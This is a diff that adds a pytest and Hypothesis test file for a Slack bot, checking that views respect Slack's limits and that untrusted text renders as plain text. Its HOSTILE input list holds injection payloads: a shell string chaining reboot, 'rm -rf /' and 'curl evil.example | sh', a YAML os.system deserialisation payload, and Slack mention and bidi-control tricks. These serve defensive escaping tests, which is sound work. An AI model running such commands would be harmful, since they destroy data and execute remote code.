@@ -1,0 +1,98 @@
+"""Every view within Slack's limits and shown as text, whatever people and APIs wrote."""
+
+import json
+import re
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from bot.domain import Kind, Status
+from bot.views import escape
+from tests.bot.showing import complaints, form_complaints, forms, messages, suggestions
+
+EVERY = [*((status, Kind.GPU_UP) for status in Status), *((Status.AWAITING, kind) for kind in Kind)]
+HOSTILE = [
+    "<!channel> <!here> <@U0LEAD> <#C0GPUOPS> <!subteam^S1|x>",
+    "*bold* _italic_ ~struck~ `code` ```block``` > quote",
+    "<https://evil.example|harmless> &lt;!channel&gt; :fire:",
+    "\u202egnirts\u202c \u2066x\u2069 \u200f\u061c \x00\x1b[31m",
+    "x" * 10_000,
+    "<" * 10_000,
+    "`" * 3000,
+    "👩‍👩‍👧‍👦🏳️‍🌈" * 500,
+    "key: [unclosed\n- !!python/object/apply:os.system ['id']\n",
+    "$(reboot); `rm -rf /` && curl evil.example | sh; '\"",
+    "a\nb\r\nc\u2028d",
+    "\ud800",
+]
+
+
+@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(
+    text=st.text(min_size=1, max_size=600),
+    many=st.integers(1, 30),
+    status=st.sampled_from(Status),
+    kind=st.sampled_from(Kind),
+)
+def test_every_message_keeps_slacks_limits(text: str, many: int, status: Status, kind: Kind) -> None:
+    """In every status and kind, with any text in every field."""
+    for view in messages(text, many, [(status, kind)]):
+        assert complaints(view) == []
+
+
+@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(text=st.text(min_size=1, max_size=600), many=st.integers(1, 30))
+def test_every_form_keeps_slacks_limits(text: str, many: int) -> None:
+    """Modals and Home, with any text in every field."""
+    for view in forms(text, many):
+        assert form_complaints(view) == []
+
+
+@pytest.mark.parametrize("many", [1, 300])
+@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text[:12]))
+def test_hostile_text_in_every_field_fits(text: str, many: int) -> None:
+    """Ten thousand characters, hundreds of endpoints, twenty phases: cut, and still a message."""
+    for view in messages(text, many, EVERY):
+        assert complaints(view) == []
+    for form in forms(text, many):
+        assert form_complaints(form) == []
+
+
+@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text[:12]))
+def test_hostile_text_in_every_field_is_text(text: str) -> None:
+    """No mention, link or reordering comes of it; what the bot itself writes are users, dates and its own links."""
+    shown = [*(view.blocks for view in messages(text, 3, EVERY)), *(form["blocks"] for form in forms(text, 3))]
+    for blocks in shown:
+        for said in markup_in(blocks):
+            assert not re.search(r"<(?!@U\d>|!date\^|https://example\.com/|https://slack\.com/archives/|/)", said), said
+            assert not re.search("[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c\x00\x1b]", said)
+
+
+@pytest.mark.parametrize("text", [text for text in HOSTILE if len(text) < 200], ids=lambda text: ascii(text[:12]))
+def test_formatting_characters_of_others_do_not_format(text: str) -> None:
+    """What somebody typed between stars is read between stars."""
+    assert not re.search(r"(?<!\w)[*_~](?=\S)|`|^&gt;|:[a-z]+:", escape(text), re.MULTILINE)
+
+
+def test_what_is_offered_in_the_search_keeps_slacks_limits() -> None:
+    """An id that does not fit into an option is not offered; a long label is cut."""
+    assert suggestions("x" * 200) == []
+    (offered,) = suggestions("organisation/" + "m" * 100)
+    assert len(offered["text"]["text"]) <= 75
+    assert offered["value"] == "organisation/" + "m" * 100
+
+
+def markup_in(node: object) -> list[str]:
+    """The texts that Slack reads as mrkdwn."""
+    if isinstance(node, dict):
+        own = [node["text"]] if node.get("type") == "mrkdwn" else []
+        return own + [text for value in node.values() for text in markup_in(value)]
+    return [text for value in node for text in markup_in(value)] if isinstance(node, list) else []
+
+
+def test_metadata_of_the_forms_is_within_slacks_limit() -> None:
+    """Forms carry what was typed; their fields are bounded so that it fits."""
+    for form in forms("ä" * 5000, 25):
+        assert len(form.get("private_metadata", "")) <= 3000
+        json.dumps(form)
